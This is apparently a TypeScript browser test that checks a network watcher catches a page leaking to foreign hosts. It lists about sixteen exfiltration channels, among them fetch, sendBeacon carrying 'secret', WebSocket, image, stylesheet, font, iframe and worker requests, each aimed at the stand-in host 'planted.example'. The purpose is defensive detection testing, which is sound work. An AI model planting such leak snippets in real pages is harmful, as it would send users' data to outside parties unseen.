// The watch itself is watched: a page that leaks in every way a page has is caught, by the log of requests or by the trap that
// every foreign host leads to. Our own pages are under the same watch in every test, and each must be at 0.

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, taken, test } from './harness.ts'

test.use({ serviceWorkers: 'allow' })

const link = (rel: string, href: string, more = ''): string =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', ${more} href: '${href}' }))`
const put = (tag: string, to: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { src: '${to}' }))`
/**
 * Each way out: a script of a page that no policy holds, to an address of its own. Names that are only looked up (dns-prefetch,
 * preconnect) carry nothing of the page, and are not seen here.
 */
const leaks: Record<string, (to: string) => string> = {
  fetch: (to) => `fetch('${to}').catch(() => 0)`,
  xhr: (to) => `const x = new XMLHttpRequest(); x.open('GET', '${to}'); x.send()`,
  beacon: (to) => `navigator.sendBeacon('${to}', 'secret')`,
  socket: (to) => `new WebSocket('${to.replace('http', 'ws')}')`,
  events: (to) => `const e = new EventSource('${to}'); e.onerror = () => e.close()`,
  image: (to) => `new Image().src = '${to}'`,
  background: (to) => `document.body.style.background = 'url(${to})'`,
  stylesheet: (to) => link('stylesheet', to),
  font: (to) => `new FontFace('f', 'url(${to})').load().catch(() => 0)`,
  script: (to) => put('script', to),
  frame: (to) => put('iframe', to),
  video: (to) => put('video', to),
  prefetch: (to) => link('prefetch', to),
  preload: (to) => link('preload', to, "as: 'image',"),
  worker: () => `new Worker('worker.js')`,
  'service-worker': () => `navigator.serviceWorker.register('service-worker.js')`,
}
const address = (way: string): string => `http://planted.example/${way}`

test('a planted leak is caught, whatever way it takes', async ({ page, watched }) => {
  watched.allow(/.*/)
  const server = createServer(({ url }, response) => {
    const [, worker] = /^\/([\w-]*worker)\.js$/.exec(url!) ?? []
    const script = worker === undefined ? null : leaks['fetch']!(address(worker))
    response.writeHead(200, { 'content-type': script === null ? 'text/html' : 'text/javascript' })
    response.end(script ?? '<!doctype html><title>leaks</title><body></body>')
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  const seen: Record<string, string> = {}
  const missed: string[] = []
  try {
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`)
    await taken(true)
    for (const [way, script] of Object.entries(leaks)) {
      const own = new RegExp(`planted\\.example[/: A-Z]*/${way}( |$)`)
      const trapped: string[] = []
      const logged = (): boolean => watched.foreign.some((line) => own.test(line))
      await page.evaluate(`{ ${script(address(way))} }`)
      await expect
        .poll(async () => trapped.push(...(await taken(true)).filter((line) => own.test(line))) > 0 || logged(), {
          timeout: 5000,
          intervals: [50],
        })
        .toBe(true)
        .catch(() => missed.push(way))
      seen[way] = [logged() && 'log', trapped.length > 0 && 'trap'].filter(Boolean).join(' and ')
    }
    console.log(`planted leaks: ${Object.keys(leaks).length}, caught: ${JSON.stringify(seen)}`)
    expect(missed).toEqual([])
  } finally {
    await page.close()
    await taken(true)
    watched.foreign.length = 0
    server.close()
    server.closeAllConnections()
  }
})
